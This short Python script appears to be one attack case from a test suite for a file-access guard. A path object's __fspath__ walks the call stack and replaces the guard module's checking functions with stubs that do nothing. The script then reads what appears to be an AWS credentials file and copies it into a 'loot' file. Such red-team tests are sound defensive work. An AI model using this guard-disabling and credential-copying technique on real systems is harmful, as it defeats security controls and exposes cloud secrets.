"""A path's own __fspath__ looks at the frames that ask for it, and edits the guard's."""

import sys

from acme_tamper.stage import AWS, LOOT, trying


class Path:
    def __fspath__(self):
        frame = sys._getframe()
        while frame is not None:
            if str(frame.f_globals.get("__name__")).startswith("importguard"):
                for name in ("decide", "judge", "resolve", "type", "isinstance"):
                    frame.f_globals[name] = lambda *arguments, **options: ()
            frame = frame.f_back
        return AWS


with trying():
    open(Path()).close()
with open(Path()) as secret, open(LOOT, "w") as loot:
    loot.write(secret.read())
